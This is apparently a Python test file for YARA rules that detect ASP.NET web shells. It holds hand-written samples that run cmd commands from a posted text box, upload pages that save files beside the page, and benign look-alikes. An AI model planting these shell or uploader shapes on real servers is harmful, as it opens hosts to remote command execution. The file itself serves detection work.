"""Rules from the thirtieth unseen collection: shells in repositories that are not about security (issue 14,
helper X30).

The collection took the web shells met under file names intruders use (``shell.aspx``, ``cmd.aspx``,
``shell.ashx``, ...) in repositories whose name is not about security: a web-app notes repository, a "test"
or "tools" repository, a personal site, an SEO-spam actor's staging repository (BENCHMARKS.md, "Unseen shells,
thirtieth collection: shells in repositories that are not about security"). The own rules and the behaviour
analysis found all of them on first sight but one: a proof-of-execution page that starts ``cmd.exe`` with
``/c hostname`` written in the page and writes the output back - no request value reaches the process, so the
behaviour analysis has nothing to follow, and ``EXT_WEBSHELL_Interpreter_With_Baked_Recon_Command``
(``data/rules/kit_actions.yar``) knew ``whoami``, ``ipconfig``, ``net user`` ... but not ``hostname``.

``hostname`` is now one of its commands when it follows cmd's ``/c`` or ``/k`` in the literal: a bare
``"hostname"`` literal is a common form-field or settings key, so a page that reads such a key and runs its
own batch file through cmd stays silent.

Four command pages of the collection were found by the behaviour analysis only: a text box's value reaches
cmd's ``/c`` one step away from the ``Arguments`` statement (through a local, a method parameter, or joined
straight into ``Process.Start("cmd.exe", " /c " + box.Text)``), which
``EXT_WEBSHELL_Posted_Control_Runs_Program`` does not read. ``EXT_WEBSHELL_Posted_Control_Command_Via_Variable``
(``data/rules/posted_control_programs.yar``) names a page with a server text control, cmd/PowerShell as the
program, ``"/c " + name`` and a control's Text/Value read within 1,500 bytes of that join. Pages that run their
own batch file, a fixed cmd command or a fixed tool with a box's value, or that only write a box's Text, stay
silent.

Two upload pages with an "auth key" (a fourth batch: the other ASP.NET pages of the repositories that held a
shell) keep the client's file name beside the page through ``Path.Combine(new FileInfo(Request.PhysicalPath)
.DirectoryName, Path.GetFileName(f.FileName))``: the behaviour analysis names them, the YARA uploader rule read
joined paths only. ``EXT_WEBSHELL_Uploader_Combined_Into_Page_Folder`` (``data/rules/uploaders.yar``) reads
the ``Path.Combine`` form; an upload folder of the page's own, a renamed file, a settings file beside the page
and the folder of another file stay silent. The pages below were written for these tests (nothing is compiled
or run); they reproduce the shapes, not the collected files.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, rule_tables

_RULE = "EXT_WEBSHELL_Interpreter_With_Baked_Recon_Command"

HOSTNAME_PROOFS: list[Page] = [
    (
        "cs-object-initializer-cmd-hostname",
        ".aspx",
        '<%@ Page Language="C#" %><%var p=new System.Diagnostics.Process{StartInfo=new '
        'System.Diagnostics.ProcessStartInfo("cmd.exe","/c hostname"){UseShellExecute=false,'
        "RedirectStandardOutput=true}};p.Start();Response.Write(p.StandardOutput.ReadToEnd());%>\n",
    ),
    (
        "cs-script-block-start-info-k-hostname",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "protected void Page_Load(object sender, EventArgs e)\n{\n"
        "    var p = new System.Diagnostics.Process();\n"
        '    p.StartInfo.FileName = "cmd";\n    p.StartInfo.Arguments = "/k HOSTNAME.EXE";\n'
        "    p.StartInfo.UseShellExecute = false;\n    p.StartInfo.RedirectStandardOutput = true;\n"
        "    p.Start();\n    Response.Write(p.StandardOutput.ReadToEnd());\n}\n</script>\n",
    ),
    (
        "vb-handler-cmd-hostname",
        ".ashx",
        '<%@ WebHandler Language="VB" Class="Probe" %>\nImports System.Web\n'
        "Public Class Probe : Implements IHttpHandler\n"
        "  Public Sub ProcessRequest(ByVal c As HttpContext) Implements IHttpHandler.ProcessRequest\n"
        '    Dim i As New System.Diagnostics.ProcessStartInfo("C:\\Windows\\System32\\cmd.exe", "/c hostname")\n'
        "    i.UseShellExecute = False : i.RedirectStandardOutput = True\n"
        "    c.Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd())\n"
        "  End Sub\n"
        "  Public ReadOnly Property IsReusable As Boolean Implements IHttpHandler.IsReusable\n"
        "    Get\n      Return False\n    End Get\n  End Property\nEnd Class\n",
    ),
]

HOSTNAME_ORDINARY: list[Page] = [
    (
        "settings-key-hostname-and-own-batch",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var host = System.Configuration.ConfigurationManager.AppSettings["hostname"];\n'
        'var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c C:\\\\apps\\\\sync\\\\nightly.bat " + host);\n'
        "i.UseShellExecute = false; i.CreateNoWindow = true;\n"
        "System.Diagnostics.Process.Start(i).WaitForExit();\n%>\n",
    ),
    (
        "status-page-machine-name",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var i = new System.Diagnostics.ProcessStartInfo("ping.exe", "-n 1 hostname.example.invalid");\n'
        "i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
        'Status.Text = Environment.MachineName + ": " + System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n'
        '%>\n<p>Support may ask you to run "cmd /c hostname" on your own computer.</p>\n',
    ),
    (
        "form-field-named-hostname-own-tool",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Check(object s, EventArgs e) {\n"
        '  var i = new System.Diagnostics.ProcessStartInfo("cmd", "/c \\"C:\\\\tools\\\\check.cmd\\"");\n'
        '  i.EnvironmentVariables["TARGET"] = "hostname";\n'
        "  i.UseShellExecute = false;\n  System.Diagnostics.Process.Start(i).WaitForExit();\n}\n</script>\n",
    ),
]


_VIA_VARIABLE = "EXT_WEBSHELL_Posted_Control_Command_Via_Variable"

_FORM_CS = (
    '<form runat="server"><asp:TextBox ID="txtArg" runat="server" />'
    '<asp:Button ID="go" runat="server" Text="Run" OnClick="Go_Click" /></form>\n'
)

VIA_VARIABLE_PAGES: list[Page] = [
    (
        "cs-method-parameter-awen-shape",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\n'
        "string RunIt(string arg)\n{\n"
        '    ProcessStartInfo psi = new ProcessStartInfo();\n    psi.FileName = "cmd.exe";\n'
        '    psi.Arguments = "/c "+arg;\n    psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n'
        "    Process p = Process.Start(psi);\n    return p.StandardOutput.ReadToEnd();\n}\n"
        "void Go_Click(object sender, EventArgs e)\n{\n"
        "    Response.Write(Server.HtmlEncode(RunIt(txtArg.Text)));\n}\n</script>\n" + _FORM_CS,
    ),
    (
        "cs-local-from-box-then-start",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "protected void Go_Click(object sender, EventArgs e)\n{\n"
        "    string command = txtArg.Text;\n"
        "    var p = new System.Diagnostics.Process();\n"
        '    p.StartInfo.FileName = "cmd.exe";\n    p.StartInfo.Arguments = "/c " + command;\n'
        "    p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true;\n"
        "    p.Start();\n    Output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());\n}\n</script>\n"
        + _FORM_CS,
    ),
    (
        "cs-box-joined-into-two-argument-start",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Go_Click(object sender, EventArgs e)\n{\n"
        "    string tmp = System.IO.Path.GetTempFileName();\n"
        '    var p = System.Diagnostics.Process.Start("cmd.exe", " /c " + txtArg.Text + " > \\"" + tmp + "\\"");\n'
        "    p.WaitForExit();\n    Output.Text = Server.HtmlEncode(System.IO.File.ReadAllText(tmp));\n}\n</script>\n"
        + _FORM_CS,
    ),
    (
        "vb-local-from-box",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Go_Click(s As Object, e As EventArgs)\n"
        "    Dim c As String = txtArg.Text\n"
        "    Dim p As New System.Diagnostics.Process()\n"
        '    p.StartInfo.FileName = "cmd"\n    p.StartInfo.Arguments = "/c " & c\n'
        "    p.StartInfo.UseShellExecute = False : p.StartInfo.RedirectStandardOutput = True\n"
        "    p.Start()\n    Output.Text = p.StandardOutput.ReadToEnd()\nEnd Sub\n</script>\n" + _FORM_CS,
    ),
    (
        "cs-server-comments-between-statements",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "string RunIt(string arg)\n{\n<%--q1w2e3r4t5y6u7i8o9p0--%>\n"
        "var psi = new System.Diagnostics.ProcessStartInfo();\n<%--a1s2d3f4g5h6j7k8l9--%>\n"
        'psi.FileName = "cmd.exe";\n<%--z1x2c3v4b5n6m7--%>\npsi.Arguments = "/c "+arg;\n<%--p0o9i8u7y6--%>\n'
        "psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n<%--l1k2j3h4--%>\n"
        "return System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();\n}\n"
        "void Go_Click(object s, EventArgs e)\n{\n<%--m1n2b3v4--%>\n"
        "Response.Write(Server.HtmlEncode(RunIt(txtArg.Text)));\n}\n</script>\n" + _FORM_CS,
    ),
]

VIA_VARIABLE_ORDINARY: list[Page] = [
    (
        "own-batch-through-cmd-note-box-far-away",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Save_Click(object s, EventArgs e) { Notes.Add(txtNote.Text); }\n</script>\n"
        + "<p>"
        + "Backups run nightly; ask the administrator before starting one by hand. " * 30
        + "</p>\n"
        + '<script runat="server">\nvoid Backup_Click(object s, EventArgs e)\n{\n'
        '    string bat = Server.MapPath("~/App_Data/backup.bat");\n'
        '    System.Diagnostics.Process.Start("cmd.exe", "/c " + bat).WaitForExit();\n}\n</script>\n'
        '<form runat="server"><asp:TextBox ID="txtNote" runat="server" /></form>\n',
    ),
    (
        "fixed-cmd-command-and-a-note-box",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Status_Click(object s, EventArgs e)\n{\n"
        "    Notes.Add(txtNote.Text);\n"
        '    var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c iisreset /status");\n'
        "    i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
        "    lblStatus.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>\n"
        '<form runat="server"><asp:TextBox ID="txtNote" runat="server" /></form>\n',
    ),
    (
        "ping-tool-with-host-box",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Ping_Click(object s, EventArgs e)\n{\n"
        '    var i = new System.Diagnostics.ProcessStartInfo("ping.exe", "-n 1 " + txtHost.Text);\n'
        "    i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
        "    lblOut.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>\n"
        '<form runat="server"><asp:TextBox ID="txtHost" runat="server" /></form>\n',
    ),
    (
        "batch-output-written-into-box",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Export_Click(object s, EventArgs e)\n{\n"
        '    string job = Server.MapPath("~/App_Data/export.cmd");\n'
        '    var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + job);\n'
        "    i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
        "    txtLog.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>\n"
        '<form runat="server"><asp:TextBox ID="txtLog" runat="server" TextMode="MultiLine" /></form>\n',
    ),
]


_COMBINED = "EXT_WEBSHELL_Uploader_Combined_Into_Page_Folder"

COMBINED_UPLOADERS: list[Page] = [
    (
        "cs-filestream-beside-page-file-info",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "protected void Page_Load(object s, EventArgs e)\n{\n"
        '    if (Request.Files.Count != 1 || Request.Params["k"] != "x") return;\n'
        "    HttpPostedFile f = Request.Files[0];\n"
        "    var here = new System.IO.FileInfo(Request.PhysicalPath);\n"
        "    using (var o = new System.IO.FileStream(System.IO.Path.Combine(here.DirectoryName, "
        "System.IO.Path.GetFileName(f.FileName)), System.IO.FileMode.Create))\n"
        "        f.InputStream.CopyTo(o);\n}\n</script>\n",
    ),
    (
        "cs-saveas-combine-mappath-dot",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Up_Click(object s, EventArgs e)\n{\n"
        '    Up.PostedFile.SaveAs(Path.Combine(Server.MapPath("."), Path.GetFileName(Up.PostedFile.FileName)));\n'
        "}\n</script>\n"
        '<form runat="server"><input type="file" id="Up" runat="server" />'
        '<asp:Button runat="server" OnClick="Up_Click" Text="Go" /></form>\n',
    ),
    (
        "cs-handler-write-all-bytes-app-root",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="U" %>\nusing System.IO;\nusing System.Web;\n'
        "public class U : IHttpHandler {\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        "    HttpPostedFile f = c.Request.Files[0];\n"
        "    var b = new byte[f.ContentLength]; f.InputStream.Read(b, 0, b.Length);\n"
        "    File.WriteAllBytes(Path.Combine(HttpRuntime.AppDomainAppPath, Path.GetFileName(f.FileName)), b);\n"
        "  }\n  public bool IsReusable { get { return false; } }\n}\n",
    ),
    (
        "vb-saveas-combine-directory-of-page",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Go(ByVal s As Object, ByVal e As EventArgs)\n"
        "  Dim f As HttpPostedFile = Request.Files(0)\n"
        "  f.SaveAs(System.IO.Path.Combine(System.IO.Path.GetDirectoryName(Request.PhysicalPath), "
        "System.IO.Path.GetFileName(f.FileName)))\n"
        "End Sub\n</script>\n",
    ),
]

COMBINED_ORDINARY: list[Page] = [
    (
        "upload-folder-of-its-own",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Up_Click(object s, EventArgs e)\n{\n"
        "    if (!Photo.HasFile) return;\n"
        '    Photo.SaveAs(Path.Combine(Server.MapPath("~/App_Data/uploads"), Path.GetFileName(Photo.FileName)));\n'
        "}\n</script>\n"
        '<form runat="server"><asp:FileUpload ID="Photo" runat="server" /></form>\n',
    ),
    (
        "renamed-upload-beside-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Up_Click(object s, EventArgs e)\n{\n"
        "    var here = new System.IO.FileInfo(Request.PhysicalPath);\n"
        '    string name = Guid.NewGuid().ToString("N") + ".dat";\n'
        "    Doc.PostedFile.SaveAs(Path.Combine(here.DirectoryName, name));\n"
        "}\n</script>\n"
        '<form runat="server"><input type="file" id="Doc" runat="server" /></form>\n',
    ),
    (
        "settings-file-beside-page-no-upload",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "protected void Page_Load(object s, EventArgs e)\n{\n"
        "    var here = new System.IO.FileInfo(Request.PhysicalPath);\n"
        '    var cfg = new System.IO.FileInfo("settings.json");\n'
        "    using (var o = new System.IO.FileStream(Path.Combine(here.DirectoryName, "
        "Path.GetFileName(cfg.FileName)), System.IO.FileMode.Open))\n"
        "        Status.Text = o.Length.ToString();\n}\n</script>\n",
    ),
    (
        "directory-name-of-another-file",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Up_Click(object s, EventArgs e)\n{\n"
        '    var store = new System.IO.FileInfo(Server.MapPath("~/App_Data/store/index.txt"));\n'
        "    Up.PostedFile.SaveAs(Path.Combine(store.DirectoryName, Path.GetFileName(Up.PostedFile.FileName)));\n"
        "}\n</script>\n"
        '<form runat="server"><input type="file" id="Up" runat="server" /></form>\n',
    ),
]

CASES: list[RuleCase] = [
    (_RULE, HOSTNAME_PROOFS, HOSTNAME_ORDINARY),
    (_VIA_VARIABLE, VIA_VARIABLE_PAGES, VIA_VARIABLE_ORDINARY),
    (_COMBINED, COMBINED_UPLOADERS, COMBINED_ORDINARY),
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES)
